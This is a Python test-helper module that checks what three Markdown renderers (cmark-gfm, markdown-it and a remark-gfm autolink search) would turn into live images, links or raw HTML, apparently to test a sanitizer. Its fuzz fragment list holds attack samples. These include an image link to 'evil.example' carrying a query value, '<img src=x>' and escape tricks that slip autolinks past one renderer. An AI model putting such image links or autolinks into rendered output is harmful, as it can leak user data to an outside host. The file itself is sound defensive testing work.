"""What three Markdown renderers would make live: images, links, autolinks, raw HTML.

The renderers an attacker could count on, each with what it alone finds:

- cmark-gfm (GitHub's reference GFM, through ``cmarkgfm``), raw HTML allowed:
  GFM's extended autolinks (``www.``, ``http://``, e-mail addresses), tables,
  task lists;
- markdown-it with raw HTML and linkify on;
- remark-gfm, the renderer Streamlit uses: its autolink literals are found by a
  search in each text node *after* escapes and entities are decoded, so
  ``www\\.evil\\.example`` is a link there though it is not in cmark-gfm. That
  search is transcribed below from mdast-util-gfm-autolink-literal 2.1.2 (its
  regular expressions and the check of the character before a match), applied
  to markdown-it's text nodes; the domain checks are left out, so it finds a
  superset of remark's links.

Independent of ``gpt4all_rag.markdown``: nothing here is shared with the code
under test.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator

import cmarkgfm
from cmarkgfm.cmark import Options
from markdown_it import MarkdownIt
from markdown_it.token import Token

__all__ = ["FUZZ_FRAGMENTS", "cmark_gfm", "live_parts", "markdown_it", "remark_autolinks"]

# Pieces of random texts for fuzzing: rich in backticks, brackets, addresses and payloads.
FUZZ_FRAGMENTS = [
    "`", "``", "```", "````", "!", "[", "]", "(", ")", "<", ">", "_", "*", "@", ".", ":", "/",
    "\\", "|", "#", "-", "&", ";", " ", " ", "\n", "\n\n", "\r\n", "www.", "http://",
    "https://", "mailto:", "a@e.x", "x", "e.x", "evil.example", "?q=S",
    "![x](http://evil.example/?q=S)", "![x][r]", "[r]: http://evil.example/",
    "<http://evil.example>", "<img src=x>", "&#96;", "&#33;", "&#46;", "| a |", "|---|", "> ",
    "- ", "1. ", "`b`", "\u02cb", "\uff40", "\uff57",
]  # fmt: skip

_LINKIFY = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(
    ["table", "strikethrough", "linkify"]
)
_NODES = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

# The tags a rendering of inert Markdown may hold; any other tag is raw HTML or a link.
_SAFE_TAGS = frozenset(
    ["p", "em", "strong", "del", "s", "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6", "ul",
     "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"]
)  # fmt: skip
_TAG = re.compile(r"<(/?)([A-Za-z][\w:-]*)([^>]*)>")
_ADDRESS_ATTRIBUTE = re.compile(r"(?i)\s(?:src|href|srcset|poster|data|action|on\w+)\s*=")

# mdast-util-gfm-autolink-literal 2.1.2, lib/index.js, transformGfmAutolinkLiterals. JS's
# \w and [a-z] are ASCII; the i flag on the first.
_REMARK_FINDERS = [
    (
        re.compile(
            r"(?<![\da-z])(https?://|www(?=\.))([\w-]*\.[\w\-.]*)([^\t\n\r ]*)", re.I | re.A
        ),
        True,
    ),
    # The e-mail form (mailto: and xmpp: ones hold one) without its look-behind: a superset.
    (re.compile(r"([\w+\-.]+)@([\w-]+(?:\.[\w-]+)+)", re.A), False),
]


def cmark_gfm(markdown: str) -> str:
    """HTML from GitHub's cmark-gfm with its extensions (autolink, table, tagfilter...)."""
    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)


def markdown_it(markdown: str) -> str:
    """HTML from markdown-it with raw HTML and linkify on."""
    return _LINKIFY.render(markdown)


def _previous_ok(text: str, index: int) -> bool:
    """mdast's ``previous``: a URL starts the text or follows whitespace or punctuation."""
    if index == 0:
        return True
    before = text[index - 1]
    return before.isspace() or unicodedata.category(before)[0] in "PS"


def _text_nodes(tokens: list[Token]) -> Iterator[str]:
    """The text nodes mdast would have: runs of text and soft breaks, split by any markup."""
    for token in tokens:
        if token.type != "inline":
            continue
        run: list[str] = []
        for child in token.children or []:
            if child.type in ("text", "text_special", "softbreak"):
                run.append("\n" if child.type == "softbreak" else child.content)
                continue
            yield "".join(run)
            run = []
        yield "".join(run)


def remark_autolinks(markdown: str) -> list[str]:
    """The autolink literals remark-gfm would find in ``markdown``'s text (a superset)."""
    found: list[str] = []
    for text in _text_nodes(_NODES.parse(markdown)):
        for finder, needs_previous in _REMARK_FINDERS:
            position = 0
            while match := finder.search(text, position):
                if not needs_previous or _previous_ok(text, match.start()):
                    found.append(match.group(0))
                position = match.start() + 1
    return found


def _live_tags(html: str) -> list[str]:
    return [
        tag.group(0)
        for tag in _TAG.finditer(html)
        if tag.group(2).lower() not in _SAFE_TAGS or _ADDRESS_ATTRIBUTE.search(tag.group(3))
    ]


def live_parts(markdown: str) -> list[str]:
    """Everything live any of the three renderers finds in ``markdown``; empty when inert."""
    found = [f"cmark-gfm: {tag}" for tag in _live_tags(cmark_gfm(markdown))]
    found += [f"markdown-it: {tag}" for tag in _live_tags(markdown_it(markdown))]
    return found + [f"remark-gfm: {link}" for link in remark_autolinks(markdown)]
